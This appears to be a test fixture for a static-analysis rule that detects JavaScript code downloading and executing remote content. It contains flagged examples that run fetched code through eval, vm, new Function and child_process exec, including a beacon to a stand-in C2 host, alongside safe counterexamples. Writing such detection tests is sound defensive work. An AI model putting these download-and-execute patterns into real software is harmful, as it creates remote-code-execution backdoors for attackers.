const https = require('https');
const axios = require('axios');
const vm = require('vm');
const { exec } = require('child_process');

async function loadPlugin(url) {
  const res = await fetch(url);
  const code = await res.text();
  // ruleid: js-download-and-exec
  eval(code);
}

async function update() {
  const { data } = await axios.get('http://updates.example.net/patch.js');
  // ruleid: js-download-and-exec
  vm.runInThisContext(data);
}

function beacon() {
  https.get('https://c2.example.org/task', (res) => {
    let body = '';
    res.on('data', (chunk) => {
      body += chunk;
      // ruleid: js-download-and-exec
      exec(body);
    });
  });
}

async function inline(url) {
  // ruleid: js-download-and-exec
  return new Function(await (await fetch(url)).text())();
}

async function safe(url) {
  const res = await fetch(url);
  // ok: js-download-and-exec
  const payload = JSON.parse(await res.text());
  // ok: js-download-and-exec
  exec('git pull --ff-only', () => {});
  // ok: js-download-and-exec
  eval('1 + 1');
  const { data } = await axios.get(url);
  // ok: js-download-and-exec
  console.log(data.version);
  return payload;
}
